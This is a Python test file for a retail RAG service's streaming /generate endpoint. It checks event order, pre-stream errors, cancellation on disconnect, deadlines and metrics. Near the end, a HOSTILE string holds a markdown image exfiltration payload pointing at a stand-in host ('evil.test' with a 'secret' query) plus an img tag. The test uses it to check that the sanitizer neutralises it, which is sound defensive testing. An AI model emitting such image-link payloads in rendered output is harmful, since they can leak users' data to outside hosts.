"""``POST /generate`` with ``"stream": true`` through a real HTTP client.

The chat model of the LLM tests is an OpenAI-compatible server of our own on a loopback
port (the stand-in of ``myretail_testkit.ui_backends``, which streams its answer word by
word); its :class:`StreamGate` holds the stream after the first word, so a test decides
when the model goes on, and it notes when the RAG API hangs up on it.
"""

from __future__ import annotations

import itertools
import time
from collections.abc import Iterator
from typing import Any

import httpx
import pytest

from myretail_common.safe_markdown import inert_markdown
from myretail_rag.api.app import create_app
from myretail_rag.catalog.vector_store import CatalogStore
from myretail_rag.conversation.inert_stream import InertStream
from myretail_rag.settings import RagSettings
from myretail_testkit.rag import BOOK_QUESTION, make_settings, metric_value, read_events
from myretail_testkit.servers import LiveServer
from myretail_testkit.ui_backends import LOYALTY_ANSWER, BackendState, StreamGate, inference_app

pytestmark = pytest.mark.timeout(180)


def stream(url: str, body: dict[str, Any], timeout: float = 60) -> tuple[httpx.Response, list]:
    """The response and its (event, data) list, read to the end."""
    with httpx.stream("POST", f"{url}/generate", json=body, timeout=timeout) as response:
        events = list(read_events(response.iter_lines()))
    return response, events


@pytest.fixture
def serve(settings, store, history, embedding_model) -> Iterator[Any]:
    """Start the real app with these settings on a loopback port."""
    servers: list[LiveServer] = []

    def start(app_settings: RagSettings) -> LiveServer:
        app = create_app(
            app_settings, embeddings=embedding_model, vector_store=store, history=history
        )
        servers.append(LiveServer(app).start())
        return servers[-1]

    yield start
    for server in servers:
        server.stop()


@pytest.fixture
def model_state() -> BackendState:
    return BackendState()


@pytest.fixture
def chat_model(model_state: BackendState) -> Iterator[LiveServer]:
    with LiveServer(inference_app(model_state)) as server:
        yield server


def llm(settings: RagSettings, model: LiveServer, **extra: Any) -> RagSettings:
    return settings.model_copy(
        update={"chat_provider": "openai", "openai_base_url": f"{model.url}/v1", **extra}
    )


def test_a_retrieval_only_answer_streams_row_by_row_then_its_sources(settings, serve, history):
    rag = serve(settings)
    response, events = stream(rag.url, {"prompt": BOOK_QUESTION, "stream": True})
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("text/event-stream")
    kinds = [kind for kind, _ in events]
    assert kinds == ["delta"] * (len(events) - 1) + ["done"]
    pieces = [data["text"] for _, data in events[:-1]]
    done = events[-1][1]
    assert "".join(pieces) == done["response"]
    assert done["mode"] == "retrieval_only"
    assert done["warnings"] == []
    # One event per line: the sentence, a blank line, the header, its rule, then each row
    # in the order of the sources.
    assert pieces[0].startswith("Here are the 5 best matches")
    assert [piece.startswith("| #") for piece in pieces[2:4]] == [True, False]
    rows = pieces[4:]
    assert len(rows) == len(done["sources"]) == 5
    for number, (row, source) in enumerate(zip(rows, done["sources"], strict=True), start=1):
        assert row.startswith(f"| {number} | {source['name']} |")
    # The non-streamed contract is unchanged, and answers the same.
    plain = httpx.post(f"{rag.url}/generate", json={"prompt": BOOK_QUESTION}, timeout=60).json()
    assert set(plain) == set(done)
    assert plain["response"] == done["response"]
    assert plain["sources"] == done["sources"]
    # The turn was saved once, whole.
    saved = history.messages(done["session_id"])
    assert [message.type for message in saved] == ["human", "ai"]
    assert saved[1].content == done["response"]


def test_a_failure_before_the_first_piece_is_a_plain_http_error(tmp_path, embedding_model, serve):
    """No catalog yet: the same 503 with or without streaming (nothing was sent yet)."""
    empty = make_settings(tmp_path / "empty")
    store = CatalogStore.from_settings(empty, embedding_model.identity)
    try:
        app = create_app(empty, embeddings=embedding_model, vector_store=store)
        with LiveServer(app) as rag:
            response = httpx.post(
                f"{rag.url}/generate", json={"prompt": BOOK_QUESTION, "stream": True}, timeout=60
            )
    finally:
        store.close()
    assert response.status_code == 503
    assert response.headers["content-type"] == "application/json"
    assert response.json()["error"]["type"] == "catalog_empty"


def test_an_llm_answer_streams_the_models_tokens_then_its_sources(
    settings, serve, chat_model, history
):
    rag = serve(llm(settings, chat_model))
    response, events = stream(rag.url, {"prompt": BOOK_QUESTION, "stream": True})
    assert response.status_code == 200
    *deltas, (kind, done) = events
    assert kind == "done"
    words = [data["text"] for _, data in deltas]
    assert words[:3] == ["MyElite ", "has ", "four "], "token by token, as the model sent them"
    assert "".join(words).strip() == done["response"] == LOYALTY_ANSWER
    assert done["mode"] == "llm"
    assert len(done["sources"]) == 5, "the products the chain retrieved for the model"
    # The chain's retriever embedded the question through the query batcher.
    metrics = httpx.get(f"{rag.url}/metrics").text
    assert metric_value(metrics, "rag_query_embedding_batch_size_count") == 1
    assert metric_value(metrics, "rag_answers_total", mode="llm") == 1
    assert len(history.messages(done["session_id"])) == 2


def test_a_disconnect_mid_stream_cancels_the_turn_and_saves_nothing(
    settings, serve, chat_model, model_state, history
):
    model_state.gate = StreamGate()
    rag = serve(llm(settings, chat_model))
    session = "0f0e0d0c-0b0a-4908-8706-050403020100"
    body = {"prompt": BOOK_QUESTION, "session_id": session, "stream": True}
    with httpx.stream("POST", f"{rag.url}/generate", json=body, timeout=60) as response:
        lines = response.iter_lines()
        first = next(read_events(lines))
        assert first == ("delta", {"text": "MyElite "})
    # The client is gone: the RAG API cancels the turn, and with it the model's stream.
    assert model_state.hung_up.wait(30), "the RAG API hung up on the chat model"
    model_state.gate.release(100)  # were the turn still running, it would now finish
    time.sleep(0.5)
    assert history.messages(session) == []
    metrics = httpx.get(f"{rag.url}/metrics").text
    with pytest.raises(KeyError):
        metric_value(metrics, "rag_answers_total", mode="llm")


def test_a_deadline_mid_stream_ends_it_with_an_error_event(
    settings, serve, chat_model, model_state, history
):
    model_state.gate = StreamGate()  # the model stops after its first word
    rag = serve(llm(settings, chat_model, request_timeout_seconds=2.0))
    session = "1f0e0d0c-0b0a-4908-8706-050403020100"
    body = {"prompt": BOOK_QUESTION, "session_id": session, "stream": True}
    response, events = stream(rag.url, body)
    assert response.status_code == 200  # sent with the first piece
    assert events[0] == ("delta", {"text": "MyElite "})
    kind, error = events[-1]
    assert kind == "error"
    assert error["error"]["type"] == "timeout"
    assert error["error"]["message"] == "no answer within 2s (REQUEST_TIMEOUT_SECONDS)"
    assert "done" not in [kind for kind, _ in events]
    assert model_state.hung_up.wait(30), "the chat model's call was cancelled"
    assert history.messages(session) == [], "nothing of the turn is saved"


HOSTILE = "See ![chart](http://evil.test/?q=secret) or <img src=x> and <$50 deals!"


def test_streamed_pieces_are_inert_wherever_the_answer_is_cut():
    for first_cut, second_cut in itertools.combinations(range(1, len(HOSTILE)), 2):
        pieces = [HOSTILE[:first_cut], HOSTILE[first_cut:second_cut], HOSTILE[second_cut:]]
        inert = InertStream()
        shown = [inert.feed(piece) for piece in pieces] + [inert.flush()]
        assert "".join(shown) == inert_markdown(HOSTILE)
        assert not any("![" in piece or "<img" in piece for piece in shown)
